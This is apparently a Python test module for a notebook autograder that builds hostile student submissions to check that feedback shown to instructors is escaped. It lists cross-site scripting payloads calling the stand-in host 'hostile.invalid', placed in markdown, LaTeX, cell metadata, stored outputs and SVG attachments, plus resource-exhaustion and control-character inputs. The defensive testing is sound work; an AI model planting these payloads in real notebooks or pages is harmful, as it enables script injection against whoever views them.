"""Feedback: markup, scripts and pictures that want to come alive in the instructor's browser.

Every one of them names the host HOSTILE in what would be live: a script's text, an attribute's value. As plain,
escaped text it may be read by anyone.
"""

from base64 import b64encode

from nbformat.v4 import new_output

from tests.hostile.case import Hostile, all_wrong, answer, before, cell, first, notebook, right, text

HOSTILE = "hostile.invalid"
LIVE = (
    f"<script>fetch('https://{HOSTILE}')</script>",
    f"<script src='https://{HOSTILE}/a.js'></script>",
    f"<ScRiPt\n>alert('{HOSTILE}')</sCrIpT\t>",
    f"<img src=https://{HOSTILE}/a.png onerror=\"alert('{HOSTILE}')\">",
    f"<img src=x onerror=alert('{HOSTILE}')>",
    f"<svg onload=\"alert('{HOSTILE}')\"><script>alert('{HOSTILE}')</script></svg>",
    f"<svg><a xlink:href=\"javascript:alert('{HOSTILE}')\"><text y=20>marks</text></a></svg>",
    f"<style>@import 'https://{HOSTILE}/a.css'; body::after {{content: '{HOSTILE}'}}</style>",
    f"<link rel=stylesheet href=https://{HOSTILE}/a.css>",
    f"<iframe src=https://{HOSTILE}></iframe>",
    f"<iframe srcdoc=\"<script>alert('{HOSTILE}')</script>\"></iframe>",
    f"<object data=https://{HOSTILE}></object><embed src=https://{HOSTILE}>",
    f"<meta http-equiv=refresh content='0;url=https://{HOSTILE}'><base href=https://{HOSTILE}>",
    f"<a href=\"javascript:alert('{HOSTILE}')\">marks</a>",
    f"<a href=\"java&#x0A;script:alert('{HOSTILE}')\">marks</a>",
    f"<a href=\"data:text/html,<script>alert('{HOSTILE}')</script>\">marks</a>",
    f"<form action=https://{HOSTILE}><input type=submit formaction=\"javascript:alert('{HOSTILE}')\"></form>",
    f"<details open ontoggle=alert('{HOSTILE}')><summary>x</summary></details>",
    f"<video src=https://{HOSTILE} autoplay onplay=alert('{HOSTILE}')></video>",
    f'<div style="position:fixed;inset:0;background:url(https://{HOSTILE}/a.png)">Score: 19.0 / 19.0</div>',
    f"<math><mtext><mglyph><style><img src=x onerror=alert('{HOSTILE}')></style></mglyph></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{HOSTILE}')>\"></noscript>",
    f"</pre></div></body></html><script>alert('{HOSTILE}')</script>",
    f"--><!--><script>alert('{HOSTILE}')</script>",
)
MARKUP = "\n\n".join(LIVE)
FORMULAS = "$a$ " * 5000
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'{HOSTILE}\')"><script>alert("{HOSTILE}")</script></svg>'
CAUGHT = f"<script>alert('{HOSTILE}')</script><img src=x onerror=alert('{HOSTILE}')>"


def markup(name: str, *edits, reason: str | None = None, endless: bool = False) -> Hostile:
    """Wrong answers to all but `linear_forward`, and live markup somewhere."""
    build = notebook(all_wrong(), right("linear_forward"), *edits)
    return Hostile(name, build, {"linear_forward": 1.0}, reason, endless=endless)


def everywhere_in_metadata(made) -> None:
    """Markup in the notebook's and the cells' metadata."""
    evil = f"\"><script>alert('{HOSTILE}')</script>"
    closing = f"</title></script></style><script>alert('{HOSTILE}')</script>"
    made.metadata.update(
        title=closing,
        authors=[{"name": closing}],
        kernelspec={"name": evil, "display_name": evil, "language": evil},
        language_info={"name": evil, "pygments_lexer": evil, "codemirror_mode": evil, "mimetype": evil},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": {"b": closing}}, "version_major": 2}},
        toc={"base_numbering": evil},
    )
    for cell_ in made.cells:
        cell_.id = 'x" onmouseover="alert(\'' + HOSTILE + "')"
        cell_.metadata.update(tags=[evil, closing], name=closing, slideshow={"slide_type": evil})


def stored_outputs(made) -> None:
    """Outputs in the file, of every kind."""
    data = {
        "text/html": MARKUP,
        "image/svg+xml": SVG,
        "application/javascript": f"alert('{HOSTILE}')",
        "text/markdown": MARKUP,
    }
    for cell_ in made.cells:
        if cell_.cell_type == "code":
            cell_.outputs = [
                *(new_output("display_data", {kind: value}) for kind, value in data.items()),
                new_output("stream", name="stdout", text=MARKUP),
                new_output("error", ename=CAUGHT, evalue=MARKUP, traceback=[MARKUP]),
            ]


def attached(made) -> None:
    """A picture with a script, attached to a text."""
    made.cells[0].attachments = {"a.svg": {"image/svg+xml": b64encode(SVG.encode()).decode()}}
    made.cells[0].source += "\n\n![a](attachment:a.svg)"


IN_THE_FILE = [
    markup("markup-in-text", text(MARKUP)),
    markup(
        "links-in-markdown",
        text(
            f"[marks](javascript:alert('{HOSTILE}')) ![x](https://{HOSTILE}/a.png)"
            f" [x]: javascript:alert('{HOSTILE}') <javascript:alert('{HOSTILE}')>"
            f" ![x](x\"onerror=\"alert('{HOSTILE}'))"
        ),
    ),
    markup(
        "markup-in-formulas",
        text(
            f"$\\text{{<img src=x onerror=alert('{HOSTILE}')>}}$ $$\\href{{javascript:alert('{HOSTILE}')}}{{x}}$$"
            f" $<script>alert('{HOSTILE}')</script>$ $\\style{{background:url(https://{HOSTILE})}}{{x}}$"
            f" $\\class{{x\" onclick=\"alert('{HOSTILE}')}}{{y}}$ $\\unicode{{<img src=x onerror=alert('{HOSTILE}')>}}$"
        ),
    ),
    markup("formulas-without-end", *(text(FORMULAS) for _ in range(30))),
    markup("code-without-end", *(before("linear_open_question", "(" * 1_000_000) for _ in range(8)), endless=True),
    markup("markup-in-the-open-answer", answer(linear_open_question=MARKUP)),
    markup("markup-in-code", first("# " + MARKUP.replace("\n", "\n# "))),
    markup("markup-in-raw-cells", text(MARKUP), cell("text", cell_type="raw", metadata={"raw_mimetype": "text/html"})),
    markup("markup-in-metadata", everywhere_in_metadata),
    markup("markup-in-stored-outputs", stored_outputs),
    markup("script-in-an-attachment", attached),
]

IN_THE_CARD = [
    markup(
        "function-raises-markup",
        answer(linear_grad_W=f"def linear_grad_W(X, W, B, G):\n    raise ValueError({CAUGHT!r})"),
    ),
    markup(
        "function-raises-a-class-of-markup",
        answer(
            linear_grad_W=f"def linear_grad_W(X, W, B, G):\n    raise type({CAUGHT!r}, (Exception,), {{}})({CAUGHT!r})"
        ),
    ),
    markup(
        "function-returns-markup",
        answer(
            linear_grad_W=f"def linear_grad_W(X, W, B, G):\n    return {MARKUP!r}",
            linear_grad_X=f"def linear_grad_X(X, W, B, G):\n    return type({CAUGHT!r}, (), {{}})()",
            linear_grad_B=f"def linear_grad_B(X, W, B, G):\n    return np.zeros(3, [({CAUGHT!r}, float)])",
        ),
    ),
    markup(
        "derivation-of-markup",
        answer(linear_derivation=f"def linear_derivation():\n    return {'dℓ = ' + CAUGHT + chr(10) + '= G : dY'!r}"),
    ),
    markup(
        "function-called-markup",
        first(f"odd = lambda *a: 0\nodd.__name__ = odd.__qualname__ = odd.__doc__ = {CAUGHT!r}"),
        answer(linear_grad_W="linear_grad_W = odd"),
    ),
    markup(
        "half-characters-everywhere",
        first("print('\\ud83d')\ndisplay({'text/html': '\\udc00', 'text/plain': '\\ud83d'}, raw=True)"),
        answer(
            linear_grad_W="def linear_grad_W(X, W, B, G):\n    raise ValueError('\\ud83d')",
            linear_derivation="def linear_derivation():\n    return 'dℓ = \\ud83d'",
        ),
    ),
    markup(
        "control-characters-everywhere",
        first("print(''.join(map(chr, range(32))) + '\\x7f\\x9b\\u2028\\u202e\\ufffe')"),
        answer(
            linear_grad_W="""
            def linear_grad_W(X, W, B, G):
                raise ValueError("\\x00\\x1b[2J\\x1b]0;x\\x07[red][/] \\r\\b")
            """
        ),
    ),
]

CASES = [*IN_THE_FILE, *IN_THE_CARD]
